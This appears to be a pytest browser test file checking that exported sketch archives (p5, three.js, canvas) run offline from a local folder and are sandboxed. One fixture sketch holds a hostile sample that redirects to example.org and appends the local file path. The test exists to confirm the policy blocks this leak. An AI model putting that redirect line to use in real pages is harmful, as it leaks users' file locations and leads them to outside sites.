"""Sketches of a member's copy run from a folder on a disk, on every engine, with their files and without a network."""

import zipfile
from io import BytesIO

import pytest
from PIL import Image

from db import fetch_value
from mutations.scripts import new_key
from tests.browser.conftest import HANG, watched

P5 = """
let cat
{preload}
function setup() {{ createCanvas(60, 40); background(10, 20, 30); {first}
    document.body.dataset.done = get(5, 5).slice(0, 3).join(",") + " " + cat.width }}
"""
SKETCHES = {  # engine: the text, and what it says of itself when it has run
    "p5-1": (P5.format(preload="function preload() { cat = loadImage('cat.png') }", first=""), "10,20,30 12"),
    "p5-2": (P5.format(preload="", first="cat = await loadImage('cat.png');").replace("function setup", "async function setup"), "10,20,30 12"),
    "three": ("""
        import * as THREE from "three"
        import {OrbitControls} from "three/addons/controls/OrbitControls.js"
        document.body.dataset.done = new THREE.Vector3(1, 2, 2).length() + " " + typeof OrbitControls
    """, "3 function"),
    "canvas": ("""
        ctx.fillStyle = "rgb(1, 2, 3)"
        ctx.fillRect(0, 0, 9, 9)
        document.body.dataset.done = ctx.getImageData(2, 2, 1, 1).data.slice(0, 3).join(",") + " " + typeof neo.random()
        fetch("https://example.org/").catch(() => { document.body.dataset.net = "none" })
    """, "1,2,3 number"),
}


@pytest.fixture(scope="module")
def copy(server, chromium, tmp_path_factory):
    """A copy of ada's, unpacked, with one sketch for each engine."""
    context = chromium.new_context(extra_http_headers={"Cookie": server.cookie_for("ada")})
    db = server.database()
    for engine, (source, _) in SKETCHES.items():
        draw(db, server, engine, source, engine)
    draw(db, server, "canvas", "location.href = `https://example.org/?${document.baseURI}`", "leaver")
    db.close()
    answer = context.request.get(server.url + "/settings/data/export")
    folder = tmp_path_factory.mktemp("copy")
    zipfile.ZipFile(BytesIO(answer.body())).extractall(folder)
    context.close()
    return folder


def draw(db, server, engine: str, source: str, title: str) -> None:
    """A sketch which can read a picture `cat.png`."""
    upload, out = new_key().ljust(22, "x"), BytesIO()
    Image.new("RGB", (12, 8), "purple").save(out, "WEBP")
    (server.home / "uploads" / f"{upload}.webp").write_bytes(out.getvalue())
    with db:
        user_id = fetch_value(db, "SELECT id FROM users WHERE username = 'ada'")
        db.execute("""
            INSERT INTO uploads (id, sha256, kind, user_id, size, width, height, thumb_width, thumb_height)
            VALUES (?, ?, 'image', ?, 9, 12, 8, 12, 8)
        """, (upload, "0" * 64, user_id))
        id = fetch_value(db, "INSERT INTO scripts (key, user_id, title) VALUES (:key, :user_id, :title) RETURNING id",
                         key=new_key(), user_id=user_id, title=title)
        db.execute("INSERT INTO script_versions (script_id, number, engine, source) VALUES (?, 1, ?, ?)", (id, engine, source))
        db.execute("""
            INSERT INTO script_files (script_id, name, kind, upload_id, type, size) VALUES (?, 'cat.png', 'image', ?, 'image/webp', 9)
        """, (id, upload))


@pytest.mark.parametrize("engine", SKETCHES)
def test_it_runs_by_a_double_click(copy, chromium, engine):
    page = watched(chromium.new_page())
    folder = next(path for path in (copy / "sketches").iterdir() if path.name.startswith(f"{engine}-"))
    page.goto((folder / "index.html").as_uri())
    frame = page.frame_locator("iframe")
    frame.locator("body[data-done]").wait_for(state="attached", timeout=HANG)
    assert frame.locator("body").get_attribute("data-done") == SKETCHES[engine][1]
    if engine == "canvas":
        frame.locator("body[data-net=none]").wait_for(state="attached", timeout=HANG)
        page.errors = [line for line in page.errors if "example.org" not in line]
    assert page.errors == [] and frame.get_by_role("alert").count() == 0
    page.close()


def test_none_leads_its_reader_away_nor_tells_where_their_files_are(copy, chromium):
    page = watched(chromium.new_page())
    asked = []
    page.on("request", lambda request: asked.append(request.url))
    path = next((copy / "sketches").glob("leaver-*")) / "index.html"
    with page.expect_console_message(lambda message: "frame-src" in message.text, timeout=HANG):
        page.goto(path.as_uri())
    assert page.url == path.as_uri() and not any("example.org" in url for url in asked)
    page.close()


def test_the_pages_lead_to_each_other_and_are_dressed(copy, chromium):
    page = watched(chromium.new_page())
    page.goto((copy / "index.html").as_uri())
    for link in ("Your wall", "Back", "Your sketches", "Back"):
        page.get_by_role("link", name=link).click()
    assert page.get_by_role("heading", level=1).inner_text().startswith("What @ada has on")
    assert page.evaluate("getComputedStyle(document.body).maxWidth") != "none" and page.errors == []
    page.close()
